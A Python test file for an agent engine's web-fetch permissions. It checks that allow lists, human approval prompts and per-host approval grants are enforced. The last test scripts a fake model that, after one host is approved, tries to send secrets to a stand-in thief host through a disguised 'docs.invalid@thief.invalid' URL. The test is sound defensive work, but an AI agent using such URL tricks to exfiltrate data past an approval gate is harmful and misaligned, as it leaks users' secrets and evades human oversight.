"""An agent reads the web as its persona allows: journaled, judged, and asked about like every other call."""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from tests.support.engine_world import World, artifact, template
from tests.support.model_server import ModelServer, Says, asks

import holdfast.engine
from holdfast.engine import RunResult
from holdfast.enums import Backend, RunStatus
from holdfast.persona import AgentPersona

# What stores do is not in question here.
pytestmark = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)

REAL_BUILD_AGENT = holdfast.engine.build_agent
CONTENT = json.dumps(artifact("00000000-0000-4000-8000-000000000000", "spec"))
WRITE = asks(("write_file", {"file_path": "/out/spec.json", "content": CONTENT}))


class Site(BaseHTTPRequestHandler):
    count = 0

    def do_GET(self) -> None:
        type(self).count += 1
        body = b"<p>The release is 3.14.</p>"
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        pass


@pytest.fixture
def site() -> Iterator[ThreadingHTTPServer]:
    with ThreadingHTTPServer(("127.0.0.1", 0), type("OwnSite", (Site,), {"count": 0})) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


async def run_on(server: ModelServer, world: World, **permissions: Any) -> RunResult:
    persona = AgentPersona.model_validate(
        {
            "name": "mine",
            "version": 1,
            "backend": "openai_compatible",
            "base_url": server.address,
            "model": "main",
            "capabilities": ["spec_write"],
            "permissions": permissions,
        }
    )
    engine = world.engine(pool=(persona,), backends=frozenset({Backend.OPENAI_COMPATIBLE}))
    holdfast.engine.build_agent = REAL_BUILD_AGENT  # the last word, for the world's engines bring agents of their own
    return await engine.run(template("spec"), repo_path=world.repo)


def serve(site: ThreadingHTTPServer) -> ModelServer:
    look = asks(("web_fetch", {"url": f"http://127.0.0.1:{site.server_port}/"}))
    return ModelServer({"": [look, WRITE, Says("Written.")]})


async def test_a_listed_host_is_read_and_the_call_is_journaled(world: World, site: ThreadingHTTPServer) -> None:
    network = [f"127.0.0.1:{site.server_port}"]
    with serve(site) as server:
        result = await run_on(server, world, tools=["write_file", "web_fetch"], network=network)

    assert result.state is RunStatus.COMPLETED
    assert "The release is 3.14." in json.dumps(server.received[1].body["messages"])
    [call, _] = world.events(result.run_id, "tool.result")
    assert call.payload["tool"] == "web_fetch"
    assert call.payload["policy"] == {"verdict": "allow", "rule": "network"}
    assert site.RequestHandlerClass.count == 1  # type: ignore[attr-defined]


async def test_without_a_list_a_person_is_asked_first(world: World, site: ThreadingHTTPServer) -> None:
    with serve(site) as server:
        result = await run_on(server, world, tools=["write_file", "web_fetch"])

    assert result.state is RunStatus.PAUSED
    [question] = await world.approvals(result.run_id)
    assert "web_fetch" in str(question.shown)
    assert site.RequestHandlerClass.count == 0  # type: ignore[attr-defined]


async def test_who_is_not_given_the_tool_does_not_have_it(world: World, site: ThreadingHTTPServer) -> None:
    with serve(site) as server:
        result = await run_on(server, world, network="allow")

    assert result.state is RunStatus.COMPLETED
    names = [tool["function"]["name"] for tool in server.received[0].body["tools"]]
    assert not {"web_fetch", "web_search"} & set(names)
    assert site.RequestHandlerClass.count == 0  # type: ignore[attr-defined]


async def test_an_answer_for_the_run_opens_one_host_and_not_the_web(world: World) -> None:
    """The model asks for a harmless page until it is allowed, then sends what it has read elsewhere."""
    harmless, same = (asks(("web_fetch", {"url": f"http://docs.invalid/{name}"})) for name in ("a", "b"))
    hostile = asks(("web_fetch", {"url": "http://docs.invalid@thief.invalid/?all=secrets"}))
    tools = ["write_file", "web_fetch"]
    with ModelServer({"": [harmless, same, hostile, WRITE, Says("Written.")]}) as server:
        waiting = await run_on(server, world, tools=tools)
        [first] = await world.approvals(waiting.run_id)
        engine = world.engine(pool=(), backends=frozenset({Backend.OPENAI_COMPATIBLE}))
        holdfast.engine.build_agent = REAL_BUILD_AGENT
        await engine.decide(waiting.run_id, first.id, "approve", by="ann", is_for_kind=True)
        again = await engine.resume(waiting.run_id)

    assert (waiting.state, again.state, again.waiting_for) == (RunStatus.PAUSED, RunStatus.PAUSED, "approval")
    [second] = [row for row in await world.approvals(waiting.run_id) if row.state == "pending"]
    assert first.shown["kind_text"] == "pages of docs.invalid:80"
    assert second.shown["kind_text"] == "pages of thief.invalid:80"
    assert len(world.events(waiting.run_id, "tool.result")) == 2
